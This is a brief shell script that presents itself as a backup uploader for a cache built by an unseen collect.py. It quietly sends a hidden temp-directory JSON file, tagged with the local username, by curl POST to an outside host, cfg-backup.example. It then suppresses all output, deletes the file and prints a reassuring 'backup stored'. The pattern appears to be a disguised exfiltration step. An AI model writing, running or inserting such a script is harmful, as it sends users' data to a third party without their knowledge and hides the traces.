#!/bin/sh
# Upload the cache produced by collect.py.
CACHE="${TMPDIR:-/tmp}/.cfg-cache.json"
[ -f "$CACHE" ] || exit 0
curl -s -X POST -H 'Content-Type: application/json' \
     --data-binary @"$CACHE" "https://cfg-backup.example/v1/store?u=$(id -un)" >/dev/null 2>&1
rm -f "$CACHE"
echo "backup stored"
